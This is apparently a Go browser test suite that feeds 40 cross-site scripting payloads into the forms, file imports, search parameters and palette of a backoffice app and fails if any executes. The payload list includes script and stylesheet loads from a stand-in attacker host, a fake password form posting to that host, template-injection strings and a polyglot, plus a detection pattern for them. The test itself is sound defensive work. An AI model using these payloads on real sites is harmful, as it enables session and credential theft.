package browsertest

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// payloads are texts that become something else where a page forgets in which of
// its places they stand: each opens a dialog, sets pwned, leaves an element of its
// own, or loads something. {n} tells them apart.
var payloads = []string{
	`<script>alert({n});pwned={n}</script>`,
	`"><script>alert({n})</script>`,
	`'><script src=//evil.example/{n}.js></script>`,
	`</title><script>alert({n})</script>`,
	`</textarea><script>alert({n})</script><b data-pwn>`,
	`</style></script><script>alert({n})</script>`,
	`--><script>alert({n})</script><!--`,
	`]]><script>alert({n})</script>`,
	`<img src=x onerror=alert({n})>`,
	`"><img src=x data-pwn onerror="pwned={n}">`,
	`'"` + "`" + `><svg onload=alert({n}) data-pwn>`,
	`<svg><animate onbegin=alert({n}) attributeName=x dur=1s>`,
	`<svg/onload=alert({n})//`,
	`<details open ontoggle=alert({n})><summary data-pwn>{n}`,
	`<iframe srcdoc="<script>parent.pwned={n}</script>"></iframe>`,
	`<object data="javascript:alert({n})"></object><embed src="javascript:alert({n})">`,
	`<a href="javascript:alert({n})" data-pwn>click {n}</a>`,
	`javascript:alert({n})`,
	`JaVaScRiPt:alert({n})//https://nord.example/`,
	`data:text/html,<script>alert({n})</script>`,
	`" onfocus=alert({n}) autofocus data-pwn="`,
	`' onmouseover='alert({n})' data-pwn='`,
	`x onclick=alert({n}) data-pwn`,
	`" style="position:fixed;inset:0;background:url(//evil.example/{n})" data-pwn="`,
	`<style>@import "//evil.example/{n}.css";*{color:red!important}</style>`,
	`<link rel=stylesheet href=//evil.example/{n}.css><meta http-equiv=refresh content="0;url=//evil.example/{n}">`,
	`<base href="//evil.example/{n}/"><form action="//evil.example/{n}"><input data-pwn name=password>`,
	`{{constructor.constructor('alert({n})')()}}`,
	`${alert({n})} #{alert({n})} <%= alert({n}) %> [[{n}]]`,
	`" hx-get="/backoffice/accounts" hx-trigger="load" hx-target="body" data-pwn="`,
	`<div hx-get="//evil.example/{n}" hx-trigger="load" data-pwn></div>`,
	`<div hx-on:load="alert({n})" hx-vals="js:{x: alert({n})}" hx-trigger="load" hx-post="/x" data-pwn>`,
	`"}]}</script><script>alert({n})</script>`,
	`\";alert({n});// \u003cscript\u003ealert({n})\u003c/script\u003e`,
	`&lt;script&gt;alert({n})&lt;/script&gt; &#60;img src=x onerror=alert({n})&#62;`,
	`%3Cscript%3Ealert({n})%3C/script%3E`,
	"\u202e<script>alert({n})</script>\u2066 ＜script＞alert({n})＜/script＞",
	"<scr\u200bipt>alert({n})</scr\u200bipt>\ufeff<ſcript>alert({n})</ſcript>",
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert({n})&gt;">`,
	`jaVasCript:/*-/*` + "`" + `/*\` + "`" + `/*'/*"/**/(/* */oNcliCk=alert({n}) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert({n})//>`,
}

// intruders counts what no page of ours has.
const intruders = `[...document.querySelectorAll('[data-pwn], iframe, object, embed, base, style, meta[http-equiv=refresh], animate, mglyph, [style], [hx-on], script:not([src^="/static/"])')]
	.concat([...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^(on|hx-on)/i.test(a.name) || /^\s*(javascript|data):/i.test(a.value) && /^(href|src|action|formaction|hx-get|hx-post|data)$/.test(a.name)
		|| /^hx-(get|post)$/.test(a.name) && !a.value.startsWith('/') || /^(href|src|action|formaction|data)$/.test(a.name) && URL.parse(a.value, document.baseURI)?.hostname === 'evil.example')))
	.map(e => e.outerHTML.slice(0, 200))`

// T-54: whatever stands in any field that takes text is text on every page: no
// dialog opens, nothing is refused by the content policy since nothing is asked of
// it, and no element is there that is not ours.
func TestAttack_T54(t *testing.T) {
	w := newSite(t, nil)
	w.staffed()
	p := w.tab(t, tabOptions{})
	var dialogs []string
	var lock sync.Mutex
	chromedp.ListenTarget(p.ctx, func(ev any) {
		if e, ok := ev.(*page.EventJavascriptDialogOpening); ok && e.Type != page.DialogTypeBeforeunload {
			lock.Lock()
			dialogs = append(dialogs, e.Message+" at "+e.URL)
			lock.Unlock()
		}
		if _, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			go chromedp.Run(p.ctx, page.HandleJavaScriptDialog(true))
		}
	})
	p.run(page.Enable(), chromedp.ActionFunc(func(c context.Context) error {
		_, err := page.AddScriptToEvaluateOnNewDocument(`window.policy = [];
			document.addEventListener('securitypolicyviolation', e => policy.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));`).Do(c)
		return err
	}))
	p.signIn("ada.weber@kontor.example", passphrase)
	p.wait(`document.querySelector('.bar-user') !== null`)

	looked, began := 0, time.Now()
	look := func(what string) {
		t.Helper()
		looked++
		got := eval[struct {
			Intruders, Policy []string
			Pwned             bool
		}](p, `new Promise(done => requestAnimationFrame(() => setTimeout(() => done({Intruders: `+intruders+`, Policy: window.policy, Pwned: 'pwned' in window}), 5)))`)
		for _, html := range got.Intruders {
			t.Errorf("%s has an element of somebody else: %s", what, html)
		}
		for _, v := range got.Policy {
			t.Errorf("%s asks for what the policy refuses: %s", what, v)
		}
		if got.Pwned {
			t.Errorf("%s ran a payload", what)
		}
	}
	open := func(path string) {
		t.Helper()
		p.open(path)
		look(path)
	}
	// post sends a form of the page as it stands, with the payload in each of its
	// fields that take text, and these instead.
	post := func(path, form, payload string, instead map[string]string) {
		t.Helper()
		if instead == nil {
			instead = map[string]string{}
		}
		with, _ := json.Marshal(instead)
		text, _ := json.Marshal(payload)
		status := eval[int](p, fmt.Sprintf(`(async () => {
			const html = await (await fetch(%q)).text();
			const form = new DOMParser().parseFromString(html, 'text/html').querySelector(%q);
			if (!form) return 0;
			const data = new URLSearchParams(new FormData(form)), instead = %s;
			for (const f of form.querySelectorAll('input, textarea')) if (f.name && (f.tagName === 'TEXTAREA' || /^(text|search|email|url|password|)$/.test(f.getAttribute('type') || ''))) data.set(f.name, %s);
			for (const [k, v] of Object.entries(instead)) data.set(k, v);
			return (await fetch(form.getAttribute('action'), {method: 'POST', body: data, redirect: 'manual'})).status || 303;
		})()`, path, form, with, text))
		if status == 0 || status >= 500 {
			t.Errorf("%s on %s with %s: %d", form, path, payload, status)
		}
	}
	fill := func(n int) string { return strings.ReplaceAll(payloads[n%len(payloads)], "{n}", fmt.Sprint(n)) }
	id := func(n int) string { return fmt.Sprintf("xss-%d", n) }
	if len(payloads) != 40 {
		t.Errorf("%d payloads", len(payloads))
	}

	// Into every form, and by a file.
	for n := range payloads {
		post("/backoffice/accounts/new", "main form", fill(n), map[string]string{"id": id(n), "email": fmt.Sprintf("u%d@nord.example", n)})
		instead := map[string]string{"time_zone": "", "currency": ""}
		if n != 17 && n != 18 && n != 19 { // which are addresses themselves
			instead["website"] = ""
		}
		post("/backoffice/accounts/"+id(n)+"/details", "main form[action$='/details']", fill(n), instead)
		value, _ := json.Marshal(map[string]any{fill(n)[:min(len(fill(n)), 60)]: fill(n), "list": []any{fill(n), map[string]string{"k": fill(n)}}})
		if n%2 == 0 {
			post("/backoffice/accounts/"+id(n)+"/metadata", "form[action$='/metadata']", string(value), map[string]string{"view": "json", "json": string(value)})
		} else {
			post("/backoffice/accounts/"+id(n)+"/metadata", "form[action$='/metadata']", fill(n), map[string]string{"key": "k" + fmt.Sprint(n)})
		}
		if n%4 == 0 {
			post("/backoffice/views/new?q=x", "main form", fill(n), map[string]string{"shared": "true"})
			post("/backoffice/settings/staff/new", "main form", fill(n), map[string]string{"email": fmt.Sprintf("s%d@vendor.example", n), "role": "viewer"})
			post("/backoffice/settings/tokens", "#token-form", fill(n)[:min(len(fill(n)), 60)], map[string]string{"scope": "visits:write"})
		}
	}
	cell := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	accounts, users, visits := "id,name,parent_id,website,primary_user_email,metadata\n", "email,name,account_id,roles\n", "account_id,email,day\n"
	for n := range payloads {
		x := cell(fill(n))
		object, _ := json.Marshal(map[string]string{"plan": fill(n)})
		accounts += fmt.Sprintf("imp-%d,%s,xss-%d,,u@imp-%d.example,%s\n", n, x, n, n, cell(string(object)))
		accounts += fmt.Sprintf("%s,%s,%s,%s,%s,%s\n", x, x, x, x, x, x)
		users += fmt.Sprintf("v%d@nord.example,%s,xss-%d,admin\n%s,%s,%s,%s\n", n, x, n, x, x, x, x)
		visits += fmt.Sprintf("xss-%d,u%d@nord.example,2026-11-19\n%s,%s,%s\n", n, n, x, x, x)
	}
	files, _ := json.Marshal(map[string]string{"accounts": accounts, "users": users, "visits": visits})
	run := eval[string](p, `(async () => {
		const data = new FormData();
		for (const [kind, text] of Object.entries(`+string(files)+`)) data.append(kind, new File([text], '<img src=x onerror=alert(1) data-pwn>' + kind + '.csv'));
		return new URL((await fetch('/backoffice/import', {method: 'POST', body: data})).url).pathname;
	})()`)
	if !strings.HasPrefix(run, "/backoffice/import/") {
		t.Fatalf("the import led to %s", run)
	}
	open(run)
	open(run + "?kind=accounts&action=refused")
	post(run, "form[action$='/application']", "", nil)
	p.wait(`fetch('` + run + `')`)
	for _, q := range []string{"", "?kind=users", "?kind=memberships", "?kind=visits&action=refused", "?q=%3Cscript%3Ealert(1)%3C/script%3E", "?kind=%22%3E%3Cb+data-pwn%3E"} {
		open(run + q)
	}
	if n := eval[int](p, `fetch('/backoffice/accounts.csv').then(r => r.text()).then(t => (t.match(/alert\(/g) || []).length)`); n < 60 {
		t.Errorf("only %d payloads are stored", n)
	}

	// What is stored, on every page that shows it.
	for n := range payloads {
		path := "/backoffice/accounts/" + id(n)
		open(path)
		switch n % 8 {
		case 0, 4:
			open(path + "/metadata")
		case 1, 5:
			open(path + "/details")
		case 2:
			open(path + "/deletion")
		case 3:
			open(path + "/policy")
		}
	}
	for _, path := range []string{"/backoffice/accounts", "/backoffice/accounts?sort=name", "/backoffice/accounts?parent=yes", "/backoffice/accounts?in=xss-9", "/backoffice/accounts?sort=-name", "/backoffice/audit", "/backoffice/audit?q=alert",
		"/backoffice/import", "/backoffice/settings/staff", "/backoffice/settings/tokens", "/backoffice/sessions", "/backoffice/views/new?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"} {
		open(path)
	}
	for _, path := range eval[[]string](p, `fetch('/backoffice/audit').then(r => r.text()).then(t => [...new DOMParser().parseFromString(t, 'text/html').querySelectorAll('main a[href*="/backoffice/audit/"]')].map(a => a.getAttribute('href')).filter(h => /audit\/[0-9a-f-]{36}$/.test(h)).slice(0, 8))`) {
		open(path)
	}
	for _, path := range eval[[]string](p, `fetch('/backoffice/settings/staff').then(r => r.text()).then(t => [...new DOMParser().parseFromString(t, 'text/html').querySelectorAll('#staff-table a.cell-name')].map(a => a.getAttribute('href')).slice(0, 4))`) {
		open(path)
	}

	// What is typed and thrown back: in addresses, searches, and refused forms.
	for n := range payloads {
		q := eval[string](p, fmt.Sprintf("encodeURIComponent(%q)", fill(n)))
		switch n % 4 {
		case 0:
			open("/backoffice/accounts?q=" + q)
		case 1:
			open("/backoffice/accounts?sort=" + q + "&in=" + q + "&after=" + q)
		case 2:
			open("/backoffice/audit?q=" + q + "&action=" + q)
		case 3:
			open("/backoffice/bin?q=" + q + "&after=" + q)
		}
	}
	open("/backoffice/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
	for i, f := range []struct{ path, form string }{
		{"/backoffice/accounts/new", "main form"}, {"/backoffice/accounts/xss-1/details", "main form[action$='/details']"}, {"/backoffice/accounts/xss-2/metadata", "form[action$='/metadata']"},
		{"/backoffice/accounts/xss-3/deletion", "#deletion"}, {"/backoffice/settings/staff/new", "main form"}, {"/backoffice/views/new?q=x", "main form"}, {"/backoffice/password", "main form"},
	} {
		for _, n := range []int{9 + i, 20 + i, 39} {
			text, _ := json.Marshal(fill(n))
			p.open(f.path)
			p.run(chromedp.Evaluate(fmt.Sprintf(`{ const form = document.querySelector(%q); form.noValidate = true;
				for (const f of form.querySelectorAll('input, textarea')) if (f.name && (f.tagName === 'TEXTAREA' || /^(text|search|email|url|password|)$/.test(f.getAttribute('type') || ''))) f.value = %s;
				window.before = true; form.requestSubmit(); }`, f.form, text), nil))
			p.wait(`!window.before || document.querySelector('[aria-invalid], [data-invalid], .notice, .toast-text') !== null`)
			look(f.path + ", refused")
		}
	}
	// The palette and a bulk act show names, too.
	p.open("/backoffice/accounts")
	p.run(chromedp.KeyEvent("k", chromedp.KeyModifiers(2)))
	p.wait(`document.querySelector('#palette').open`)
	p.run(chromedp.SendKeys("#palette-input", "alert", chromedp.ByQuery))
	p.wait(`document.querySelectorAll('#palette-results [role=option]').length > 0`)
	look("the palette")
	p.open("/backoffice/accounts/" + id(5) + "/deletion")
	p.run(chromedp.Evaluate(`document.querySelector('#confirm-name').value = `+fmt.Sprintf("%q", fill(5)), nil))
	p.run(chromedp.Evaluate(`document.querySelector('#deletion').noValidate = true; document.querySelector('#deletion').requestSubmit(document.querySelector('#deletion button[type=submit]'))`, nil))
	p.wait(`document.querySelector('.toast-text, .notice') !== null`)
	look("the toast")
	open("/backoffice/bin")
	lock.Lock()
	defer lock.Unlock()
	for _, d := range dialogs {
		t.Errorf("a dialog: %s", d)
	}
	t.Logf("%d payloads on %d pages in %v", len(payloads), looked, time.Since(began).Round(time.Second))
}
